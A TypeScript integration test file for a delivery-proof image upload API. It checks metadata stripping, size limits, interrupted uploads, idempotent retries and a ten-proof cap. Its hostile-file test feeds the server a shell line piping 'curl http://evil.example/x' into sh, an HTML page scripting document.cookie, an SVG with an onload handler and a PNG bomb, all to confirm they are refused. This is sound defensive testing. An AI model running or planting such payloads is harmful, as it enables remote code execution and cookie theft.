/**
 * Proof-of-delivery uploads (issue 17) over real HTTP, with the real sharp and exiftool: what is
 * stored is re-encoded (EXIF GPS, make and model gone, orientation in the pixels), hostile files are
 * refused without harm, limits answer before the body is read, an interrupted upload leaves nothing,
 * retries with an Idempotency-Key store once, and a dispatch holds at most 10 proofs.
 */
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import exifr from 'exifr';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { waitFor } from '../helpers/api-client.js';
import {
  FORM_TAIL,
  dispatchWithDriver,
  filesBelow,
  formHead,
  noiseJpeg,
  partialUpload,
  phoneJpeg,
  pngBomb,
  sha256,
  signaturePng,
  uploadProof,
} from '../helpers/proofs.js';
import { startTestUvis, type TestUvis } from '../helpers/uvis.js';

let uvis: TestUvis;
let admin: string;
let uploads: string;

beforeAll(async () => {
  uploads = mkdtempSync(join(tmpdir(), 'uvis-proof-uploads-'));
  uvis = await startTestUvis({ role: 'api', env: { UPLOADS_DIR: uploads } });
  admin = await uvis.api.login();
});
afterAll(async () => {
  await uvis?.stop();
  rmSync(uploads, { recursive: true, force: true });
});

/** The stored image of a proof, read straight from the local proof storage. */
async function storedFile(proofId: number): Promise<Buffer> {
  const row = await uvis.running.deps.db('proofs').where({ id: proofId }).first();
  return readFileSync(join(uploads, row.storage_key));
}

const storedProofFiles = () => filesBelow(join(uploads, 'proofs'));
const incomingFiles = () => filesBelow(join(uploads, '.incoming'));

describe('what is stored', () => {
  it('re-encodes a phone photo: EXIF GPS, make and model are gone, orientation 6 is turned into the pixels', async () => {
    const { dispatchId, driver } = await dispatchWithDriver(uvis.api, admin);
    const original = await phoneJpeg();
    // The test image really carries what must disappear (else the test could not fail).
    const before = await exifr.parse(original, { gps: true, tiff: true });
    expect(before).toMatchObject({ Make: 'UVIS Phone Maker', Model: 'Model X-1000', Orientation: expect.anything() });
    expect(before.latitude).toBeCloseTo(37.5665, 3);
    expect((await sharp(original).metadata()).orientation).toBe(6);

    const res = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'photo', recipient_name: '김수령', note: '경비실 보관' }, original);
    expect(res.status, res.text).toBe(201);
    expect(res.body).toMatchObject({ kind: 'photo', content_type: 'image/jpeg', width: 200, height: 400, recipient_name: '김수령', note: '경비실 보관' });

    const stored = await storedFile(res.body.id);
    expect(res.body.sha256).toBe(sha256(stored));
    expect(res.body.bytes).toBe(stored.length);
    // No EXIF at all: no GPS, no camera, no orientation left to apply a second time.
    expect(await exifr.parse(stored, { gps: true, tiff: true, xmp: true, iptc: true, icc: true })).toBeUndefined();
    expect(await exifr.gps(stored).catch(() => undefined)).toBeUndefined();
    const meta = await sharp(stored).metadata();
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect([meta.width, meta.height]).toEqual([200, 400]);
    // Rotated 90° clockwise: the blue left quarter is now the top quarter.
    const { data, info } = await sharp(stored).raw().toBuffer({ resolveWithObject: true });
    const pixel = (x: number, y: number) => [...data.subarray((y * info.width + x) * info.channels, (y * info.width + x) * info.channels + 3)];
    const [topR, , topB] = pixel(100, 40);
    const [bottomR, , bottomB] = pixel(100, 300);
    expect(topB).toBeGreaterThan(200);
    expect(topR).toBeLessThan(60);
    expect(bottomR).toBeGreaterThan(200);
    expect(bottomB).toBeLessThan(60);

    // The same bytes come back from the API, to the driver.
    const file = await fetch(`${uvis.baseUrl}/api/v1/proofs/${res.body.id}/file`, { headers: { authorization: `Bearer ${driver.token}` } });
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('image/jpeg');
    expect(file.headers.get('etag')).toBe(`"${res.body.sha256}"`);
    expect(file.headers.get('cache-control')).toContain('no-store');
    expect(sha256(new Uint8Array(await file.arrayBuffer()))).toBe(res.body.sha256);
    // Private on disk too.
    const row = await uvis.running.deps.db('proofs').where({ id: res.body.id }).first();
    expect(statSync(join(uploads, row.storage_key)).mode & 0o077).toBe(0);
  });

  it('shrinks the long side to 2560 px and keeps a signature as PNG with its transparency', async () => {
    const { dispatchId, driver } = await dispatchWithDriver(uvis.api, admin);
    const big = await noiseJpeg(3200, 1800);
    const photo = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'photo' }, big);
    expect(photo.status, photo.text).toBe(201);
    expect([photo.body.width, photo.body.height]).toEqual([2560, 1440]);

    const signature = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'signature', recipient_name: '홍길동' }, await signaturePng(), {
      type: 'image/png',
      filename: 'sign.png',
    });
    expect(signature.status, signature.text).toBe(201);
    expect(signature.body).toMatchObject({ kind: 'signature', content_type: 'image/png', width: 300, height: 120 });
    const meta = await sharp(await storedFile(signature.body.id)).metadata();
    expect(meta.format).toBe('png');
    expect(meta.hasAlpha).toBe(true);
  });

  it('announces proof.added to the shipper through the outbox, in the same commit', async () => {
    const { dispatchId, orderId, driver } = await dispatchWithDriver(uvis.api, admin);
    const res = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'signature' }, await signaturePng(), { type: 'image/png' });
    expect(res.status, res.text).toBe(201);
    const events = await uvis.running.deps
      .db('outbox')
      .where({ job_name: 'webhook.event' })
      .whereRaw(`payload->>'type' = 'proof.added'`)
      .whereRaw(`(payload->'data'->>'proof_id')::bigint = ?`, [res.body.id]);
    expect(events).toHaveLength(1);
    expect(events[0].payload).toMatchObject({
      type: 'proof.added',
      clientId: 1,
      data: { proof_id: res.body.id, dispatch_id: dispatchId, order_id: orderId, client_id: 1, kind: 'signature', sha256: res.body.sha256 },
    });
  });
});

describe('hostile and broken files', () => {
  it('refuses a script, an HTML page, a truncated JPEG and a PNG bomb named .jpg, without harm to the process', async () => {
    const { dispatchId, driver } = await dispatchWithDriver(uvis.api, admin);
    const good = await noiseJpeg(800, 600);
    const cases: [string, Buffer, number, string][] = [
      ['script', Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'), 415, 'unsupported_image_type'],
      ['html', Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'), 415, 'unsupported_image_type'],
      ['svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>'), 415, 'unsupported_image_type'],
      ['truncated jpeg', good.subarray(0, Math.floor(good.length / 2)), 422, 'image_unreadable'],
      ['png bomb', pngBomb(), 422, 'image_too_large'],
    ];
    const rssBefore = process.memoryUsage().rss;
    for (const [what, bytes, status, code] of cases) {
      const res = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'photo' }, bytes, { filename: 'delivery.jpg', type: 'image/jpeg' });
      expect(res.status, `${what}: ${res.text}`).toBe(status);
      expect(res.body.error.code, what).toBe(code);
    }
    // The bomb declares 30 GB of pixels: nothing near that was allocated (the test process is the server).
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(200 * 1024 * 1024);
    // Still serving, nothing stored, nothing left in the incoming folder.
    expect((await uvis.api.get('/api/v1/health')).status).toBe(200);
    expect((await uvis.api.get(`/api/v1/dispatches/${dispatchId}/proofs`, driver.token)).body.items).toEqual([]);
    expect(await uvis.running.deps.db('proofs').where({ dispatch_id: dispatchId }).count<{ n: string }[]>('* as n')).toEqual([{ n: 0 }]);
    expect(incomingFiles()).toEqual([]);
  });

  it('names what is wrong with the form: no file, no kind, an unknown kind, an unknown field, not multipart', async () => {
    const { dispatchId, driver } = await dispatchWithDriver(uvis.api, admin);
    const png = await signaturePng();
    const noFile = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'photo' }, undefined);
    expect(noFile.status).toBe(400);
    expect(noFile.body.error.details.map((d: { field: string }) => d.field)).toEqual(['body.file']);
    const noKind = await uploadProof(uvis.api, driver.token, dispatchId, {}, png);
    expect(noKind.status).toBe(400);
    expect(noKind.body.error.details.map((d: { field: string }) => d.field)).toEqual(['body.kind']);
    const badKind = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'selfie' }, png);
    expect(badKind.status).toBe(400);
    const extra = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'photo', gps: '37.5,127.0' } as never, png);
    expect(extra.status).toBe(400);
    expect(extra.body.error.details[0].field).toBe('body.gps');
    const json = await uvis.api.post(`/api/v1/mobile/dispatches/${dispatchId}/proofs`, { kind: 'photo' }, driver.token);
    expect(json.status).toBe(415);
    expect(incomingFiles()).toEqual([]);
    expect(storedProofFiles().length).toBe(
      await uvis.running.deps
        .db('proofs')
        .count<{ n: string }[]>('* as n')
        .then((r) => Number(r[0]!.n)),
    );
  });
});

describe('limits while reading', () => {
  it('answers 413 for a signature past 512 KiB before the rest of the body is sent', async () => {
    const { dispatchId, driver } = await dispatchWithDriver(uvis.api, admin);
    const png = await signaturePng();
    // The first 520 KiB of a 2 MiB "signature": the rest is never sent, so only an answer given while reading can arrive.
    const body = [formHead({ kind: 'signature' }, 'sign.png'), png, Buffer.alloc(520 * 1024 - png.length, 1)];
    const res = await partialUpload(uvis.baseUrl, driver.token, dispatchId, body, { contentLength: 2 * 1024 * 1024 });
    expect(res.status, res.body).toBe(413);
    expect(JSON.parse(res.body).error).toMatchObject({ code: 'file_too_large', details: { kind: 'signature', limit_bytes: 512 * 1024 } });
    await waitFor(async () => incomingFiles().length === 0, { what: 'the partial upload removed' });
  });

  it('answers 413 for a photo past 10 MiB while reading (chunked, no length), and at once for a declared length past it', async () => {
    const { dispatchId, driver } = await dispatchWithDriver(uvis.api, admin);
    const jpeg = await noiseJpeg(64, 64);
    const mib = Buffer.alloc(1024 * 1024, 7);
    const chunks = [formHead({ kind: 'photo' }), jpeg, ...Array.from({ length: 11 }, () => mib)];
    const streamed = await partialUpload(uvis.baseUrl, driver.token, dispatchId, chunks);
    expect(streamed.status, streamed.body).toBe(413);
    expect(JSON.parse(streamed.body).error.details).toMatchObject({ kind: 'photo', limit_bytes: 10 * 1024 * 1024 });

    // Only the headers are sent: the declared length alone is refused.
    const declared = await partialUpload(uvis.baseUrl, driver.token, dispatchId, [], { contentLength: 11 * 1024 * 1024 });
    expect(declared.status).toBe(413);
    await waitFor(async () => incomingFiles().length === 0, { what: 'the partial upload removed' });
    expect(await uvis.running.deps.db('proofs').where({ dispatch_id: dispatchId })).toEqual([]);
  });

  it('a file sent before its kind is held to the photo limit, then to its kind once known', async () => {
    const { dispatchId, driver } = await dispatchWithDriver(uvis.api, admin);
    const big = await noiseJpeg(1000, 800); // well over 512 KiB of noise
    expect(big.length).toBeGreaterThan(512 * 1024);
    const form = Buffer.concat([
      formHead({}, 'sign.jpg'),
      big,
      Buffer.from(`\r\n------uvis-proof-test-boundary\r\nContent-Disposition: form-data; name="kind"\r\n\r\nsignature`),
      FORM_TAIL,
    ]);
    const res = await partialUpload(uvis.baseUrl, driver.token, dispatchId, [form], { contentLength: form.length });
    expect(res.status, res.body).toBe(413);
    expect(incomingFiles()).toEqual([]);
  });

  it('a client that disconnects mid-upload leaves no file behind', async () => {
    const { dispatchId, driver } = await dispatchWithDriver(uvis.api, admin);
    const storedBefore = storedProofFiles();
    const jpeg = await noiseJpeg(1200, 900);
    const half = jpeg.subarray(0, Math.floor(jpeg.length / 2));
    const { request } = await import('node:http');
    const url = new URL(uvis.baseUrl);
    const req = request({
      host: url.hostname,
      port: url.port,
      method: 'POST',
      path: `/api/v1/mobile/dispatches/${dispatchId}/proofs`,
      headers: {
        authorization: `Bearer ${driver.token}`,
        'content-type': 'multipart/form-data; boundary=----uvis-proof-test-boundary',
        'content-length': jpeg.length * 2,
      },
    });
    req.on('error', () => {});
    req.write(formHead({ kind: 'photo' }));
    req.write(half);
    // The upload is under way (its bytes are on the server's disk) before the phone goes away.
    await waitFor(async () => incomingFiles().length === 1, { what: 'the upload in progress' });
    req.destroy();
    await waitFor(async () => incomingFiles().length === 0, { what: 'the interrupted upload removed' });
    expect(storedProofFiles()).toEqual(storedBefore);
    expect(await uvis.running.deps.db('proofs').where({ dispatch_id: dispatchId })).toEqual([]);
    expect((await uvis.api.get('/api/v1/health')).status).toBe(200);
  });
});

describe('retries and the per-dispatch limit', () => {
  it('a retry with the same Idempotency-Key stores once; the same key with another file is 422', async () => {
    const { dispatchId, driver } = await dispatchWithDriver(uvis.api, admin);
    const png = await signaturePng();
    const headers = { 'idempotency-key': `proof-${dispatchId}` };
    const first = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'signature', recipient_name: '김수령' }, png, { type: 'image/png', headers });
    expect(first.status, first.text).toBe(201);
    const filesAfterFirst = storedProofFiles();
    const retry = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'signature', recipient_name: '김수령' }, png, { type: 'image/png', headers });
    expect(retry.status).toBe(201);
    expect(retry.headers.get('idempotent-replayed')).toBe('true');
    expect(retry.body).toEqual(first.body);
    const other = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'signature', recipient_name: '김수령' }, await signaturePng(310, 120), {
      type: 'image/png',
      headers,
    });
    expect(other.status).toBe(422);
    expect(other.body.error.code).toBe('idempotency_key_reused');
    expect((await uvis.api.get(`/api/v1/dispatches/${dispatchId}/proofs`, driver.token)).body.items).toHaveLength(1);
    // The retries' own copies were deleted again.
    expect(storedProofFiles()).toEqual(filesAfterFirst);
  });

  it('a retry of the upload that filled the dispatch still gets its first answer, not 409', async () => {
    const { dispatchId, driver } = await dispatchWithDriver(uvis.api, admin);
    const png = await signaturePng(100, 50);
    for (let i = 0; i < 9; i++)
      expect((await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'signature' }, png, { type: 'image/png' })).status).toBe(201);
    const headers = { 'idempotency-key': `tenth-${dispatchId}` };
    const tenth = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'photo' }, png, { type: 'image/png', headers });
    expect(tenth.status, tenth.text).toBe(201);
    const retry = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'photo' }, png, { type: 'image/png', headers });
    expect(retry.status, retry.text).toBe(201);
    expect(retry.headers.get('idempotent-replayed')).toBe('true');
    expect(retry.body.id).toBe(tenth.body.id);
    const another = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'photo' }, png, {
      type: 'image/png',
      headers: { 'idempotency-key': `eleventh-${dispatchId}` },
    });
    expect(another.status).toBe(409);
    expect(another.body.error.code).toBe('proof_limit_reached');
  });

  it('takes at most 10 proofs per dispatch (409 proof_limit_reached), even when they arrive together', async () => {
    const { dispatchId, driver } = await dispatchWithDriver(uvis.api, admin);
    const png = await signaturePng(120, 60);
    const results = await Promise.all(
      Array.from({ length: 12 }, () => uploadProof(uvis.api, driver.token, dispatchId, { kind: 'signature' }, png, { type: 'image/png' })),
    );
    const statuses = results.map((r) => r.status).sort();
    expect(statuses.filter((s) => s === 201)).toHaveLength(10);
    expect(statuses.filter((s) => s === 409)).toHaveLength(2);
    expect(results.find((r) => r.status === 409)!.body.error).toMatchObject({ code: 'proof_limit_reached', details: { limit: 10 } });
    const eleventh = await uploadProof(uvis.api, driver.token, dispatchId, { kind: 'signature' }, png, { type: 'image/png' });
    expect(eleventh.status).toBe(409);
    expect((await uvis.api.get(`/api/v1/dispatches/${dispatchId}/proofs`, admin)).body.items).toHaveLength(10);
    const keys = (await uvis.running.deps.db('proofs').where({ dispatch_id: dispatchId }).pluck('storage_key')).sort();
    expect(storedProofFiles().filter((f) => keys.includes(`proofs/${f}`))).toHaveLength(10);
    // The refused ones' images were deleted: every stored file has its row.
    const allKeys = new Set(await uvis.running.deps.db('proofs').pluck('storage_key'));
    expect(storedProofFiles().filter((f) => !allKeys.has(`proofs/${f}`))).toEqual([]);
  });
});
